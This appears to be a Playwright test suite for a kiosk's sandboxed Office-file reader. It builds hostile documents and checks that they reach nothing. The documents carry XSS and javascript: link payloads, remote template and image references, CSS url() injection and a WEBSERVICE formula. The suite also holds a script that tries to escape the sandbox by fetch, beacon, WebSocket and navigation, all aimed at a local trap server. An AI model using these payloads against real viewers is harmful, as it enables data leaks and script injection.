"""Office files without LibreOffice on the screen: shown by contained readers, or explained."""

from __future__ import annotations

import json
import os
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from kiosk_process import KioskProcess, eventually, meeting_of
from office_files import docx, encrypted, ofd, office, picture_shape, pptx, text_shape, xlsx
from playwright.sync_api import BrowserContext, Frame, Page, expect
from test_browser_download import no_violations
from trap import Trap

from kiosk.demo.origin import pool_of

pytestmark = pytest.mark.browser

ROOT = Path(__file__).parent.parent
WORDS = json.loads((ROOT / "static" / "i18n" / "zh-CN.json").read_text("utf-8"))
# The terminal keeps where each of them was left: a test that moves about has one of its own.
PAGES = [[f"第{n}页 工作报告", *(f"第{n}页第{line}行" for line in range(20))] for n in range(1, 6)]
SLIDES = [text_shape(f"幻灯片 {n}") + picture_shape() for n in range(1, 8)]
BOOK = {
    "预算": [["项目", "金额"], ["水费", 1234.5], ["电费", 88]],
    "<b>说明</b>": [["<img src=x onerror=alert(1)>"]],
}
FILES = {
    **{f"{name}.docx": docx([name], *PAGES[1:]) for name in ("手势", "缩放", "边界")},
    "办法.docx": docx(*PAGES),
    "汇报.pptx": pptx(*SLIDES),
    "预算.xlsx": xlsx(BOOK),
    "找词.docx": docx(["找词"], *PAGES[1:]),
    "找页.pptx": pptx(*SLIDES[1:], SLIDES[0]),
    "找格.xlsx": xlsx({"其一": [["项目"]], "其二": [["项目"], *[["水费"]] * 300, ["最后一格"]]}),
    "坏.docx": b"PK\x03\x04" + b"nonsense" * 200,
    "坏.xlsx": office("xl/workbook.xml", {"xl/workbook.xml": "<no/>"}),
    "坏.pptx": office("ppt/presentation.xml", {"ppt/presentation.xml": "<broken"}),
    "加密.docx": encrypted(),
    "加密.xlsx": encrypted(),
    "加密.pptx": encrypted(),
    "空.pptx": pptx(),
    "通知.ofd": ofd(),
}
NUMBERS = {name: number for number, name in enumerate(FILES, 1)}


@pytest.fixture(scope="module")
def trap() -> Iterator[Trap]:
    trap = Trap()
    yield trap
    trap.close()


def hostile(trap: Trap) -> dict[str, bytes]:
    """Every way that a document has to name something outside of it."""
    outside = {
        "rLink": ("hyperlink", f"{trap.url}link", True),
        "rScript": ("hyperlink", "javascript:parent.hacked=1", True),
        "rPicture": ("image", f"{trap.url}picture.png", True),
        "rChunk": ("aFChunk", "chunk.html", False),
        "rTemplate": ("attachedTemplate", f"{trap.url}template.dotm", True),
    }
    drawing = (
        "<w:p><w:r><w:drawing><wp:inline><wp:extent cx='900000' cy='900000'/><a:graphic>"
        "<a:graphicData><pic:pic><pic:blipFill><a:blip r:{how}='rPicture'/></pic:blipFill>"
        "<pic:spPr><a:xfrm><a:ext cx='900000' cy='900000'/></a:xfrm></pic:spPr></pic:pic>"
        "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
    )
    link = "<w:p><w:hyperlink r:id='{id}'><w:r><w:t>链接 {id}</w:t></w:r></w:hyperlink></w:p>"
    font = (
        f'<w:p><w:r><w:rPr><w:rFonts w:ascii="x\';src:url({trap.url}font)"/>'
        f"<w:color w:val='red;background:url({trap.url}colour)'/></w:rPr><w:t>字体</w:t></w:r>"
        "</w:p>"
    )
    body = (
        drawing.format(how="embed") + drawing.format(how="link") + link.format(id="rLink")
        + link.format(id="rScript") + "<w:altChunk r:id='rChunk'/>" + font
    )  # fmt: skip
    colour = f"<a:solidFill><a:srgbClr val='red;background:url({trap.url}c)'/></a:solidFill>"
    shapes = (
        text_shape("通知", run=f"<a:hlinkClick r:id='rLink'/>{colour}")
        + picture_shape("rPicture")
        + picture_shape("rPicture", how="link")
    )
    sheet = xlsx({"表": [["通知", f"=WEBSERVICE('{trap.url}')", f"<img src='{trap.url}'>"]]})
    return {
        "通知.docx": docx(["通知"], body=body, more=outside),
        "通知.pptx": pptx(shapes, more=outside),
        "通知.xlsx": sheet,
    }


@pytest.fixture(scope="module")
def kiosk(tmp_path_factory: pytest.TempPathFactory, trap: Trap) -> Iterator[KioskProcess]:
    """A terminal that has them all, the hostile ones last."""
    with pool_of([()], {"M1": meeting_of({**FILES, **hostile(trap)})}) as pool:
        settings = {"server_ip": pool.base, "server_port": pool.port, "server_count": 1}
        mode = os.environ.get("KIOSK_ASYNC_MODE", "eventlet")
        data = tmp_path_factory.mktemp("office") / "data"
        with pytest.MonkeyPatch.context() as patch:
            patch.setenv("PATH", "/nonexistent")  # no LibreOffice there
            one = KioskProcess(data, mode, interval_s=1, min_free_mb=1, **settings)
        with one:
            eventually(lambda: one.json("/api/meetings")["meetings"])
            one.send("POST", "/api/downloads", {"meetingId": "M1"})
            eventually(lambda: is_ready(one))
            yield one


def is_ready(kiosk: KioskProcess) -> bool:
    """Whether somebody has looked into every material."""
    meeting = kiosk.meeting()
    states = [row["state"] for item in meeting["agenda"] for row in item["materials"]]
    return bool(meeting["local"]) and "preparing" not in states


def t(key: str, **fields: object) -> str:
    return str(WORDS[key]).format(**fields)


def open_material(page: Page, kiosk: KioskProcess, n: int) -> None:
    page.goto(f"{kiosk.url}/meetings/M1/materials/{n}")
    expect(page.locator(".reader")).to_be_visible()


def inside(page: Page) -> Frame:
    """The frame of the contained reader."""
    frame = page.locator("iframe.contained").element_handle().content_frame()
    assert frame is not None
    return frame


def test_a_word_document_is_shown_page_by_page(page: Page, kiosk: KioskProcess) -> None:
    open_material(page, kiosk, NUMBERS["办法.docx"])
    expect(page.locator(".reader-page-words")).to_have_text("1 / 5")
    expect(page.locator("iframe.contained")).to_have_attribute("sandbox", "allow-scripts")
    expect(page.frame_locator("iframe.contained").get_by_text("第1页 工作报告")).to_be_in_viewport()
    no_violations(page)
    page.get_by_role("button", name="1 / 5").tap()
    page.keyboard.type("4")
    page.keyboard.press("Enter")
    expect(page.locator(".reader-page-words")).to_have_text("4 / 5")
    expect(page.frame_locator("iframe.contained").get_by_text("第4页 工作报告")).to_be_in_viewport()


def test_a_presentation_is_shown_slide_by_slide(page: Page, kiosk: KioskProcess) -> None:
    open_material(page, kiosk, NUMBERS["汇报.pptx"])
    expect(page.locator(".reader-page-words")).to_have_text("1 / 7")
    slides = page.frame_locator("iframe.contained")
    expect(slides.get_by_text("幻灯片 1")).to_be_in_viewport()
    picture = slides.locator(".slide img").first
    expect(picture).to_be_visible()
    assert picture.evaluate("node => node.naturalWidth") == 8
    for _ in range(3):
        page.get_by_role("button", name=t("reader.page_after")).tap()
    expect(slides.get_by_text("幻灯片 4")).to_be_in_viewport()
    expect(page.locator(".reader-page-words")).to_have_text("4 / 7")


def test_words_that_were_sought_are_marked_where_they_stand(
    page: Page, kiosk: KioskProcess
) -> None:
    """In the frame by its own reader, which is told the words and nothing else."""
    marked = "() => [...(CSS.highlights.get('found') ?? [])].map(String)"
    page.goto(f"{kiosk.url}/meetings/M1/materials/{NUMBERS['找词.docx']}?find=第4页第19行")
    line = page.frame_locator("iframe.contained").get_by_text("第4页第19行")
    expect(line).to_be_in_viewport()
    eventually(lambda: inside(page).evaluate(marked) == ["第4页第19行"])
    page.goto(f"{kiosk.url}/meetings/M1/materials/{NUMBERS['找页.pptx']}?page=5&find=幻灯片 6")
    slide = page.frame_locator("iframe.contained").get_by_text("幻灯片 6")
    expect(slide).to_be_in_viewport()
    eventually(lambda: inside(page).evaluate(marked) == ["幻灯片 6"])
    page.goto(f"{kiosk.url}/meetings/M1/materials/{NUMBERS['找格.xlsx']}?find=最后一格")
    expect(page.get_by_role("cell", name="最后一格")).to_be_in_viewport()
    expect(page.get_by_role("tab", name="其二")).to_have_attribute("aria-selected", "true")


def test_a_workbook_is_shown_sheet_by_sheet_as_text(page: Page, kiosk: KioskProcess) -> None:
    open_material(page, kiosk, NUMBERS["预算.xlsx"])
    table = page.get_by_role("table")
    expect(table.get_by_role("cell", name="水费")).to_be_visible()
    expect(table.get_by_role("cell", name="1234.5")).to_be_visible()
    expect(page.locator("iframe")).to_have_count(0)
    page.get_by_role("tab", name="<b>说明</b>").tap()
    expect(table.get_by_role("cell", name="<img src=x onerror=alert(1)>")).to_be_visible()
    assert table.locator("img, b").count() == 0
    no_violations(page)


def test_taps_and_keys_inside_the_frame_work_the_bars_and_pages(
    page: Page, kiosk: KioskProcess
) -> None:
    open_material(page, kiosk, NUMBERS["手势.docx"])
    expect(page.locator(".reader-page-words")).to_have_text("1 / 5")
    page.touchscreen.tap(640, 420)
    expect(page.locator(".reader")).to_have_attribute("data-bars", "hidden")
    page.touchscreen.tap(640, 420)
    expect(page.locator(".reader")).to_have_attribute("data-bars", "shown")
    inside(page).focus("html")
    page.mouse.click(640, 420)
    page.keyboard.press("End")
    expect(page.locator(".reader-page-words")).to_have_text("5 / 5")
    page.keyboard.press("Home")
    expect(page.locator(".reader-page-words")).to_have_text("1 / 5")


def test_a_document_is_zoomed_and_found_again_where_it_was_left(
    page: Page, kiosk: KioskProcess
) -> None:
    open_material(page, kiosk, NUMBERS["缩放.docx"])
    words = page.locator(".reader-zoom-words")
    expect(words).to_have_text(re.compile(r"\d+%"))
    before = int((words.text_content() or "").strip("%"))
    page.get_by_role("button", name=t("reader.zoom_in")).tap()
    expect(words).not_to_have_text(f"{before}%")
    page.get_by_role("button", name="1 / 5").tap()
    page.keyboard.type("3")
    page.keyboard.press("Enter")
    expect(page.locator(".reader-page-words")).to_have_text("3 / 5")
    larger = words.text_content()
    page.get_by_role("link", name=t("reader.back")).tap()
    open_material(page, kiosk, NUMBERS["缩放.docx"])
    expect(page.locator(".reader-page-words")).to_have_text("3 / 5")
    expect(words).to_have_text(str(larger))


@pytest.mark.parametrize(
    ("name", "code"),
    [
        ("坏.docx", "broken"), ("坏.xlsx", "broken"), ("坏.pptx", "broken"),
        ("空.pptx", "no-slides"),
    ],
)  # fmt: skip
def test_what_cannot_be_read_says_why(
    page: Page, kiosk: KioskProcess, name: str, code: str
) -> None:
    open_material(page, kiosk, NUMBERS[name])
    expect(page.get_by_role("heading", name=t(f"reader.fault.{code}"))).to_be_visible()
    expect(page.locator(".words-stage")).to_contain_text(name)
    expect(page.locator("iframe")).to_have_count(0)


@pytest.mark.parametrize("name", ["加密.docx", "加密.xlsx", "加密.pptx"])
def test_a_password_is_told_before_anything_is_read(
    page: Page, kiosk: KioskProcess, name: str
) -> None:
    open_material(page, kiosk, NUMBERS[name])
    expect(page.get_by_role("heading", name=t("reader.trouble.encrypted"))).to_be_visible()
    expect(page.locator("iframe")).to_have_count(0)


def test_a_reader_that_never_ends_is_given_up_and_the_page_lives(
    page: Page, kiosk: KioskProcess
) -> None:
    busy = "<!doctype html><script>for (;;);</script>"
    told = {"Content-Type": "text/html", "Content-Security-Policy": "sandbox allow-scripts"}
    page.route("**/contained/docx", lambda route: route.fulfill(body=busy, headers=told))
    open_material(page, kiosk, NUMBERS["办法.docx"])
    title = page.get_by_role("heading", name=t("reader.fault.too-slow"))
    expect(title).to_be_visible()
    expect(page.locator("iframe")).to_have_count(0)


def test_an_ofd_document_is_named_with_what_to_do(page: Page, kiosk: KioskProcess) -> None:
    open_material(page, kiosk, NUMBERS["通知.ofd"])
    expect(page.get_by_role("heading", name=t("reader.ofd_title"))).to_be_visible()
    expect(page.locator(".words-stage")).to_contain_text("通知.ofd")


@pytest.mark.parametrize("place", [1, 2])
def test_hostile_documents_reach_nothing(
    context: BrowserContext, kiosk: KioskProcess, trap: Trap, place: int
) -> None:
    # Chromium writes what it blocked into the console: not a page of `page`'s.
    page = context.new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    open_material(page, kiosk, len(FILES) + place)
    expect(page.frame_locator("iframe.contained").get_by_text("通知").first).to_be_visible()
    frame = inside(page)
    assert frame.locator("a[href], iframe, script[src], link").count() == 0
    for link in frame.get_by_text("链接").all():
        link.tap()
    page.wait_for_timeout(700)
    assert page.evaluate("window.hacked") is None
    assert page.url.startswith(kiosk.url)
    assert trap.caught == []
    assert all(url.startswith((kiosk.url, "blob:", "data:")) for url in asked)


def test_a_hostile_workbook_is_words_in_cells(page: Page, kiosk: KioskProcess, trap: Trap) -> None:
    open_material(page, kiosk, len(FILES) + 3)
    expect(page.get_by_role("cell", name=f"<img src='{trap.url}'>")).to_be_attached()
    page.wait_for_timeout(300)
    assert trap.caught == []


REACHES = """async (trap) => {
  const tries = {
    api: () => fetch("/api/meetings"),
    absolute: (base) => fetch(base + "/api/meetings"),
    outside: () => fetch(trap),
    socket: (base) => new Promise((done, failed) => {
      const socket = base.replace("http", "ws") + "/socket.io/?EIO=4&transport=websocket";
      const line = new WebSocket(socket);
      line.onopen = done;
      line.onerror = failed;
    }),
    picture: () => new Promise((done, failed) => {
      const picture = new Image();
      picture.onload = done;
      picture.onerror = failed;
      picture.src = trap + "picture.png";
    }),
    page: () => parent.document.title,
    storage: () => localStorage.length,
    top: () => { top.location = trap; },
    popup: () => { if (!open(trap)) throw new Error("no window"); },
    beacon: () => new Promise((done, failed) => {
      addEventListener("securitypolicyviolation", failed, { once: true });
      navigator.sendBeacon(trap);
      setTimeout(done, 1000);
    }),
    code: () => eval("1"),
    markup: () => new Promise((done, failed) => {
      addEventListener("securitypolicyviolation", failed, { once: true });
      const script = document.createElement("script");
      script.textContent = "window.ran = 1";
      document.body.append(script);
      setTimeout(done, 1000);
    }),
  };
  const base = new URL(document.baseURI).origin;
  const done = [];
  for (const [name, attempt] of Object.entries(tries)) {
    try { await attempt(base); done.push(name); } catch { /* as it should be */ }
  }
  return done;
}"""


def test_code_that_ran_in_the_frame_could_reach_nothing(
    context: BrowserContext, kiosk: KioskProcess, trap: Trap
) -> None:
    page = context.new_page()
    open_material(page, kiosk, NUMBERS["边界.docx"])
    expect(page.locator(".reader-page-words")).to_have_text("1 / 5")
    assert inside(page).evaluate(REACHES, trap.url) == []
    inside(page).evaluate("url => { location = url; }", trap.url)
    page.wait_for_timeout(500)
    assert trap.caught == []
    assert page.url.startswith(kiosk.url)
